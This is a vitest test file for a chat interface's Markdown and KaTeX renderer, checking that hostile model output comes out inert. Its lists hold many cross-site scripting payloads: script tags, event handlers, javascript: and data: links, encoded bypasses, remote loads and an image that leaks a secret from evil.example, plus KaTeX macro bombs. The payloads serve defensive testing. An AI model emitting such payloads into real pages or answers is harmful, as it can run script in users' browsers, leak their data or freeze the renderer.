import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "@/components/markdown";
import { renderMath } from "@/lib/markdown/katex-cache";
import { activeContent } from "./active-content";

/** Model output is rendered by the real renderer, finished and mid-stream, and must come out inert. */
const render = (text: string, streaming: boolean) =>
  renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);

const HTML = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<input autofocus onfocus=alert(1)>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<base href="https://evil.example/">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  '<a href="&#106;avascript:alert(1)">x</a>',
  "javascript&colon;alert(1)",
];

const MARKDOWN = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  javascript:alert(1)  )",
  "[x](<javascript:alert(1)>)",
  "[x](java&#x09;script:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](javascript%3Aalert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  '[x](javascript:alert(1) "title")',
  '[x](https://a.example" onclick="alert(1))',
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "![x](javascript:alert(1))",
  "![pixel](https://evil.example/pixel.png?leak=secret)",
  '![x" onerror="alert(1)](x)',
  "[![img](https://evil.example/a.png)](javascript:alert(1))",
  "<javascript:alert(1)>",
  "<vbscript:msgbox(1)>",
  "<https://example.com/ok>",
  "<mailto:someone@example.com>",
  "www.example.com and https://example.com/x?a=<script>",
  "Text[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
  "```javascript:alert(1)\nx\n```",
  "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
  "- [ ] <img src=x onerror=alert(1)>\n- [x] done",
  "> <iframe src=javascript:alert(1)>",
];

const KATEX = [
  "$\\href{javascript:alert(1)}{click}$",
  "$\\href{https://evil.example}{click}$",
  "$\\url{javascript:alert(1)}$",
  "$\\htmlClass{evil}{x}$",
  "$\\htmlId{evil}{x}$",
  "$\\htmlStyle{background:url(https://evil.example/x)}{x}$",
  "$\\htmlData{onclick=alert(1)}{x}$",
  "$\\includegraphics{https://evil.example/x.png}$",
  "$\\color{red;background:url(x)}{x}$",
  '$\\textcolor{#fff" onmouseover="alert(1)}{x}$',
  "$$\\rule{100000em}{100000em}$$",
  "$\\kern{100000em}x\\hspace{100000em}y$",
  "$\\def\\a{\\a}\\a$",
  "$\\def\\a{x\\a}\\a$",
  "$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\e\\e}\\def\\e{\\f\\f}\\def\\f{\\g\\g}\\def\\g{\\h\\h}\\def\\h{\\i\\i}\\def\\i{\\j\\j}\\def\\j{\\k\\k}\\def\\k{xx}\\a$",
  "$\\gdef\\x{\\x\\x}\\x$",
  "$\\newcommand{\\x}{\\x}\\x$",
  "$x</span><script>alert(1)</script>$",
  "$$\\text{<img src=x onerror=alert(1)>}$$",
  "\\(\\href{javascript:alert(1)}{x}\\) and \\[\\htmlClass{evil}{y}\\]",
];

describe("hostile model output renders inert", () => {
  it("the scanner itself finds active content", () => {
    expect(activeContent('<p><a href="javascript:alert(1)">x</a></p>')).toEqual([
      "<a href=javascript:alert(1) (unsafe URL)>",
    ]);
    expect(activeContent('<span onclick="x">y</span>')).toHaveLength(1);
    expect(activeContent('<div style="background:url(x)"></div>')).toHaveLength(1);
    expect(activeContent("<script>alert(1)</script>")).toEqual(["<script>"]);
    expect(activeContent("<img src=x onerror=alert(1)>")).toEqual([
      expect.stringMatching(/^unparsed markup/),
    ]);
    expect(activeContent('<a href="&#106;avascript:x">y</a>')).toHaveLength(1);
    expect(activeContent('<p class="a">safe &lt;script&gt; <a href="https://a.example">ok</a></p>')).toEqual(
      [],
    );
  });

  describe.each([
    ["HTML", HTML],
    ["markdown", MARKDOWN],
    ["KaTeX", KATEX],
  ])("%s tricks", (_kind, corpus) => {
    it.each(corpus)("%s", (text) => {
      for (const streaming of [false, true]) {
        const html = render(text, streaming);
        expect(activeContent(html)).toEqual([]);
        // Nothing of the model's choosing becomes an attribute (class, id, style, link target) of the page.
        expect(html).not.toMatch(/="[^"]*evil/);
      }
    });
  });

  it("still renders ordinary links and maths (the corpus above is not inert because nothing renders)", () => {
    const html = render("[docs](https://example.com/docs) and $\\frac{a}{b}$", false);
    expect(html).toContain('<a href="https://example.com/docs"');
    expect(html).toContain('class="katex"');
    expect(activeContent(html)).toEqual([]);
  });
});

describe("KaTeX limits", () => {
  it("caps sizes at 20em", () => {
    const html = renderMath("\\rule{100000em}{100000em}", true);
    const sizes = [
      ...html.matchAll(/(?:height|width|border-right-width|border-top-width):\s*([\d.]+)em/g),
    ].map((match) => Number(match[1]));
    expect(sizes.length).toBeGreaterThan(0);
    expect(Math.max(...sizes)).toBeLessThanOrEqual(20);
  });

  it("stops runaway macro expansion and shows the source instead", () => {
    for (const source of ["\\def\\a{\\a}\\a", "\\def\\a{x\\a}\\a"]) {
      const html = renderMath(source, false);
      expect(html).toContain("katex-error");
      expect(html.length).toBeLessThan(1_000);
    }
  });

  it("keeps trusted-only commands out (trust: false)", () => {
    for (const source of [
      "\\href{https://a.example}{x}",
      "\\htmlClass{c}{x}",
      "\\includegraphics{https://a.example/i.png}",
    ]) {
      const html = renderMath(source, false);
      expect(html).not.toMatch(/<a\b|<img\b|class="c"/);
    }
  });
});
